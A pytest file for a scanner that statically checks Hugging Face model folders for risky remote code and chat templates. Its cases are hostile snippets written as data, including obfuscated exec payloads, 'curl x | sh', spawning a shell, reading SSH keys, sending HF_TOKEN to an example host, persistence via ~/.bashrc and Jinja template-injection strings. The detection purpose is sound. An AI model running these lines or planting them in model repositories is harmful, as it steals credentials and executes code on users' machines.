"""HF folder checks: auto_map remote code, custom Python by AST (never imported), chat templates in JSON."""

from __future__ import annotations

import io
import json
import textwrap

import pytest

from modeldossier.artifacts.code_check import check_source, scan
from modeldossier.common import Severity


def run(text: str, name: str = "modeling_custom.py") -> list:
    blob = text.encode()
    return scan(io.BytesIO(blob), name, len(blob))


def worst(found: list) -> Severity | None:
    return max((f.severity for f in found), key=lambda s: s.rank) if found else None


BENIGN_MODELING = textwrap.dedent('''
    """A custom architecture like those shipped with trust_remote_code."""
    import importlib.util
    import math
    import os
    from urllib.parse import urlparse

    import torch
    from torch import nn
    from transformers import PreTrainedModel

    from .configuration_custom import CustomConfig


    class CustomModel(PreTrainedModel):
        config_class = CustomConfig

        def __init__(self, config):
            super().__init__(config)
            self.proj = nn.Linear(config.hidden_size, config.hidden_size)
            self.use_flash = os.environ.get("USE_FLASH_ATTENTION", "0") == "1"
            self.has_flash = importlib.util.find_spec("flash_attn") is not None
            self.host = urlparse(config.name_or_path).netloc
            self.act = getattr(nn, config.activation)()

        def forward(self, x):
            return self.act(self.proj(x)) / math.sqrt(x.shape[-1])
''')


def test_benign_modeling_code_has_no_medium_findings():
    assert [f for f in run(BENIGN_MODELING) if f.severity.at_least(Severity.MEDIUM)] == []


@pytest.mark.parametrize("source, rule, severity", [
    ("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", "python.exec.obfuscated", Severity.CRITICAL),
    ("import zlib, marshal\nexec(marshal.loads(zlib.decompress(b'x')))", "python.exec.obfuscated", Severity.CRITICAL),
    ("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))", "python.exec.obfuscated", Severity.CRITICAL),
    ("eval(user_text)", "python.exec", Severity.HIGH),
    ("m = __import__('o' + 's')", "python.import.dynamic", Severity.HIGH),
    ("import os\nos.system('id')", "python.shell", Severity.HIGH),
    ("import subprocess as sp\nsp.Popen(['bash', '-c', 'curl x | sh'])", "python.shell", Severity.CRITICAL),
    ("from subprocess import check_output\ncheck_output('ls')", "python.shell", Severity.HIGH),
    ("import pty\npty.spawn('/bin/sh')", "python.shell", Severity.HIGH),
    ("import requests\nrequests.post('http://x', json={})", "python.network", Severity.HIGH),
    ("import socket\ns = socket.socket()\ns.connect(('x', 1))", "python.network", Severity.MEDIUM),
    ("import urllib.request\nurllib.request.urlopen('http://x')", "python.network", Severity.HIGH),
    ("import os\ntok = os.environ['HF_TOKEN']", "python.env.secret", Severity.MEDIUM),
    ("from os import environ\nk = environ.get('AWS_SECRET_ACCESS_KEY')", "python.env.secret", Severity.MEDIUM),
    ("import os, requests\ntok = os.environ['HF_TOKEN']\nrequests.post('https://x.example', data=tok)",
     "python.env.secret", Severity.HIGH),
    ("import os, urllib.request\nurllib.request.urlopen('https://x.example/?k=' + os.getenv('OPENAI_API_KEY'))",
     "python.env.secret", Severity.HIGH),
    ("import os\nenv = dict(os.environ.items())", "python.env.dump", Severity.MEDIUM),
    ("key = open('/root/.ssh/id_rsa').read()", "python.secret_path", Severity.HIGH),
    ("p = '~/.netrc'", "python.secret_path", Severity.HIGH),
    ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')", "python.write.persistence",
     Severity.CRITICAL),
    ("open('/tmp/out.txt', 'w').write('x')", "python.write.outside", Severity.HIGH),
    ("import os\ngetattr(os, 'sys' + 'tem')('id')", "python.getattr.dangerous", Severity.CRITICAL),
    ("import os\ngetattr(os, ''.join(['po', 'pen']))('id')", "python.getattr.dangerous", Severity.CRITICAL),
    ("import os\nname = cfg.fn\ngetattr(os, name)()", "python.getattr.computed", Severity.HIGH),
    ("import importlib\nimportlib.import_module(cfg.mod)", "python.import.dynamic", Severity.HIGH),
    ("import pickle\npickle.loads(blob)", "python.load_code", Severity.HIGH),
    ("import ctypes", "python.import.dangerous", Severity.MEDIUM),
])
def test_dangerous_python(source, rule, severity):
    found = run(source)
    hits = [f for f in found if f.rule_id == rule]
    assert hits, found
    assert max(h.severity.rank for h in hits) == severity.rank, hits
    assert hits[0].location.startswith("line ")


def test_syntax_error_and_deep_nesting_are_findings():
    assert [f.rule_id for f in run("def broken(:\n")] == ["malformed.python.syntax"]
    assert check_source("x = " + "(" * 5000 + ")" * 5000, "deep.py")[0].rule_id.startswith(("malformed", "python"))


def test_auto_map_in_config():
    config = {"architectures": ["CustomModel"], "auto_map": {
        "AutoConfig": "configuration_custom.CustomConfig", "AutoModel": "modeling_custom.CustomModel",
        "AutoModelForCausalLM": "someone/other-repo--modeling_x.XModel"}}
    found = run(json.dumps(config), "config.json")
    by_rule = {}
    for f in found:
        by_rule.setdefault(f.rule_id, []).append(f)
    assert len(by_rule["hf.auto_map.remote_code"]) == 2
    assert all(f.severity is Severity.MEDIUM for f in by_rule["hf.auto_map.remote_code"])
    assert "modeling_custom" in by_rule["hf.auto_map.remote_code"][1].message
    assert by_rule["hf.auto_map.remote_repo"][0].severity is Severity.HIGH
    assert by_rule["hf.auto_map.remote_repo"][0].location == "key auto_map.AutoModelForCausalLM"


def test_custom_pipelines_need_remote_code():
    config = {"custom_pipelines": {"text-classification": {"impl": "pipeline_x.MyPipeline", "pt": ["AutoModel"]},
                                   "ner": {"impl": "org/repo--pipe.P"}}}
    found = run(json.dumps(config), "config.json")
    assert [(f.rule_id, f.severity) for f in found] == [("hf.custom_pipeline.remote_code", Severity.MEDIUM),
                                                        ("hf.custom_pipeline.remote_code", Severity.HIGH)]


def test_tokenizer_config_chat_templates():
    plain = {"chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}", "model_max_length": 512}
    assert run(json.dumps(plain), "tokenizer_config.json") == []
    evil = {"chat_template": [{"name": "default", "template": "{{ m }}"},
                              {"name": "tool_use", "template": "{{ cycler.__init__.__globals__ }}"}]}
    found = run(json.dumps(evil), "tokenizer_config.json")
    assert worst(found) is Severity.CRITICAL
    assert all(f.location.startswith("key chat_template[tool_use]") for f in found)


def test_jinja_file_and_bad_json():
    blob = b"{{ ''.__class__.__mro__ }}"
    found = scan(io.BytesIO(blob), "chat_template.jinja", len(blob))
    assert worst(found) is Severity.CRITICAL
    assert run("{not json", "config.json")[0].rule_id == "malformed.json"


def test_real_minilm_folder_is_clean(minilm_dir):
    checked = 0
    for path in sorted(minilm_dir.rglob("*")):
        if path.suffix not in (".json", ".py") or not path.is_file():
            continue
        with open(path, "rb") as handle:
            found = scan(handle, path.name, path.stat().st_size)
        assert [f for f in found if f.severity.at_least(Severity.MEDIUM)] == [], (path, found)
        checked += 1
    assert checked >= 5


def test_source_is_never_executed(tmp_path):
    marker = tmp_path / "pwned"
    source = f"import os\nos.system('touch {marker}')\nopen({str(marker)!r}, 'w').write('x')\n"
    assert run(source)
    assert not marker.exists()


def test_python_too_large_to_parse_is_checked_by_pattern_with_bounded_memory():
    """Dense code over 1 MiB is not handed to ast.parse (about 600 bytes of memory per byte); patterns still fire."""
    from modeldossier.artifacts.code_check import MAX_AST_BYTES

    body = b"import os\n" + b"a=1;" * (MAX_AST_BYTES // 4) + b"\nos.system('id')\n"
    findings = scan(io.BytesIO(body), "modeling_big.py", len(body))
    rules = {f.rule_id: f for f in findings}
    assert set(rules) == {"python.too_large", "python.unparsed.risky"}
    assert rules["python.unparsed.risky"].severity is Severity.HIGH
    assert rules["python.unparsed.risky"].location == "line 3"
    benign = b"x = 1\n" * (MAX_AST_BYTES // 6 + 10)
    assert [f.rule_id for f in scan(io.BytesIO(benign), "big.py", len(benign))] == ["python.too_large"]


@pytest.mark.parametrize("source", [
    "import os\ncache = os.environ.get('HF_HOME', '~/.cache/huggingface')",
    "import os\noffline = os.getenv('HF_HUB_OFFLINE') == '1'",
    "import os\nos.environ['TOKENIZERS_PARALLELISM'] = 'false'",
    "import os\nif os.environ.get('HF_HUB_ENABLE_HF_TRANSFER'):\n    pass",
    "import os\nendpoint = os.environ['HF_ENDPOINT']",
])
def test_benign_hf_configuration_reads_are_not_findings(source):
    found = check_source(source, "modeling.py")
    assert not [f for f in found if f.rule_id.startswith("python.env")], found


def test_secret_read_without_network_is_medium_with_network_high():
    quiet = check_source("import os\ntoken = os.environ.get('HF_TOKEN')\nprint(len(token))", "m.py")
    assert [(f.rule_id, f.severity) for f in quiet] == [("python.env.secret", Severity.MEDIUM)]
    loud = check_source("import os, socket\nt = os.environ.get('HF_TOKEN')\nu = t.encode()\n"
                        "s = socket.socket()\ns.sendto(u, ('x.example', 53))", "m.py")
    assert ("python.env.secret", Severity.HIGH) in [(f.rule_id, f.severity) for f in loud]
